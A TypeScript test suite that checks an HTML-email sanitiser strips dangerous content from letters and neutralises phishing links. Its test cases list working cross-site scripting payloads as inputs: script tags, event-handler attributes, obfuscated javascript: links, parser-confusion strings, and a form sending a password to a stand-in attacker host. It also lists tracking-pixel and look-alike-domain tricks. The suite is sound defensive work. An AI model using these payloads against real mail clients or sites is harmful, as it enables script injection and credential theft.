import createPurifier from 'dompurify';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { safeLetter } from './safeLetter.ts';

const purifier = createPurifier(new JSDOM('').window);
const shown = (html: string, withPictures = false) => safeLetter(html, withPictures, purifier);
/** The document as a browser reads it. */
const parsed = (html: string, withPictures = false): Document =>
  new JSDOM(shown(html, withPictures).document).window.document;
/** What is in the letter's body, without what the frame brings itself. */
const body = (html: string, withPictures = false): HTMLElement => parsed(html, withPictures).body;

/** The elements that no shown letter may have. */
const never =
  'script, form, input, button, textarea, select, svg, math, iframe, frame, object, embed, applet, base, meta, link, video, audio, source, template';

describe('a letter that attacks its reader', () => {
  it.each([
    ['a script', '<script>alert(1)</script>'],
    ['a script of another server', '<script src="https://evil.example/x.js"></script>'],
    ['a handler on a picture', '<img src=x onerror="alert(1)">'],
    ['a handler on the body', '<body onload="alert(1)">'],
    ['a handler behind a slash', '<img/src/onerror=alert(1)>'],
    ['a handler on an open detail', '<details open ontoggle="alert(1)">x</details>'],
    ['a link to a script', '<a href="javascript:alert(1)">x</a>'],
    ['a link to a script in pieces', '<a href="java\tscript:alert(1)">x</a>'],
    ['a link to a script as entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
    ['a link to a document of its own', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['a link to VBScript', '<a href="vbscript:msgbox(1)">x</a>'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['a base address', '<base href="https://evil.example/">'],
    ['a style sheet of another server', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['a form', '<form action="https://evil.example"><input name="password"><button>OK</button></form>'],
    ['a button with a target', '<button formaction="javascript:alert(1)">x</button>'],
    ['a drawing with a script', '<svg onload="alert(1)"><script>alert(1)</script></svg>'],
    ['a drawing that links', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
    ['a formula that changes the parser', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['a set of frames instead of a body', '<frameset onload="alert(1)"><frame src="javascript:alert(1)">'],
    ['an object', '<object data="https://evil.example/x.swf"></object><embed src="x.swf">'],
    ['a film', '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png"></video>'],
    ['a template', '<template><script>alert(1)</script></template>'],
    ['an end of the style', '<style><img src="</style><img src=x onerror=alert(1)>"></style>'],
    ['an end of a comment', '<!--><img src=x onerror=alert(1)>-->'],
    ['an unknown element', '<x onclick="alert(1)" tabindex=1>x</x>'],
  ])('a letter that attacks its reader by %s has no such thing', (_attack, html) => {
    const letter = body(html, true);
    expect([...letter.querySelectorAll(never)].map(({ outerHTML }) => outerHTML)).toEqual([]);
    const attributes = [...letter.querySelectorAll('*')].flatMap((element) => [...element.attributes]);
    expect(attributes.filter(({ name }) => /^on|action|srcdoc|srcset|poster/i.test(name))).toEqual([]);
    const addresses = attributes.filter(({ name }) => /href|src|background/.test(name));
    expect(addresses.filter(({ value }) => !/^https?:|^data:image/.test(value))).toEqual([]);
  });

  it.each([
    ['a picture', '<img src="https://evil.example/1.png" alt="Logo">'],
    [
      'a picture by several addresses',
      '<img src="https://evil.example/1.png" srcset="https://evil.example/2.png 2x">',
    ],
    ['a background', '<table background="https://evil.example/1.png"><tr><td>x</td></tr></table>'],
    ['a style of an element', '<p style="background:url(https://evil.example/1.png)">x</p>'],
    ['a style sheet', '<style>@import url(https://evil.example/1.css); p{color:red}</style><p>x</p>'],
  ])(
    'a letter that attacks its reader by %s tells nobody that it is read until pictures are asked for',
    (_attack, html) => {
      expect(shown(html).hasPictures).toBe(true);
      const policy = (withPictures: boolean) =>
        parsed(html, withPictures).querySelector('meta[http-equiv]')?.getAttribute('content');
      expect(policy(false)).toBe("default-src 'none'; style-src 'unsafe-inline'; img-src data:");
      expect(policy(true)).toBe("default-src 'none'; style-src 'unsafe-inline'; img-src data: https:");
      expect(body(html).querySelector('[src], [background], [srcset]')).toBeNull();
    },
  );
});

describe('a letter that attacks nobody', () => {
  it('keeps its words, tables, colours and own pictures', () => {
    const html =
      '<style>td{color:red}</style><table width="100"><tr><td style="color:blue">Żwir</td></tr></table><img src="data:image/png;base64,AA==">';
    expect(body(html).innerHTML).toBe(
      '<style>td{color:red}</style><table width="100"><tbody><tr><td style="color:blue">Żwir</td></tr></tbody></table><img src="data:image/png;base64,AA==">',
    );
    expect(shown(html).hasPictures).toBe(false);
  });

  it('shows its pictures once they are asked for', () => {
    const html = '<img src="https://firma.example/logo.png" alt="Logo">';
    expect(body(html, true).querySelector('img')?.getAttribute('src')).toBe('https://firma.example/logo.png');
    expect(body(html).textContent).toBe('');
    expect(body(html).querySelector('img')?.getAttribute('alt')).toBe('Logo');
  });
});

describe('a link in a letter', () => {
  it.each([
    [
      'says its true host',
      '<a href="https://evil.example/x">https://bank.example</a>',
      'https://bank.example [evil.example]',
    ],
    // The `a` of this bank is a Cyrillic letter, which looks the same.
    [
      'says the host as the network reads it',
      '<a href="https://bаnk.example/">bаnk.example</a>',
      'bаnk.example [xn--bnk-6cd.example]',
    ],
    ['does not say twice what it is', '<a href="https://firma.example/">firma.example</a>', 'firma.example'],
    ['has no host if it is an address to write to', '<a href="mailto:jan@firma.example">Jan</a>', 'Jan'],
  ])('%s', (_what, html, words) => {
    const letter = body(html);
    expect(letter.textContent).toBe(words);
    const link = letter.querySelector('a');
    expect([link?.getAttribute('target'), link?.getAttribute('rel')]).toEqual([
      '_blank',
      'noopener noreferrer',
    ]);
  });

  it.each(['/api/email/1', 'email/1', '//evil', 'ftp://firma.example/x'])(
    'a link in a letter to %s leads nowhere',
    (address) => {
      expect(body(`<a href="${address}">x</a>`).querySelector('[href]')).toBeNull();
    },
  );
});
